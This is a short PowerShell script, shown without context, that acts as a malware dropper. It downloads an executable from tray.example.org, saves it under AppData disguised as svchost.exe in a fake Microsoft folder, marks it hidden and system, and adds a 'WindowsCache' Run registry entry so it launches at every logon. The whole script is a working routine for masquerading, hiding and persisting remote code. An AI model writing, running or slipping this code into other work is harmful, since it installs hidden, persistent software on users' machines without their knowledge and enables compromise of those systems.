$dst = Join-Path $env:APPDATA 'Microsoft\\Windows\\SysCache\\svchost.exe'
New-Item -ItemType Directory -Force (Split-Path $dst) | Out-Null
Invoke-WebRequest 'https://tray.example.org/helper.exe' -OutFile $dst
attrib +h +s $dst
Set-ItemProperty 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name 'WindowsCache' -Value $dst
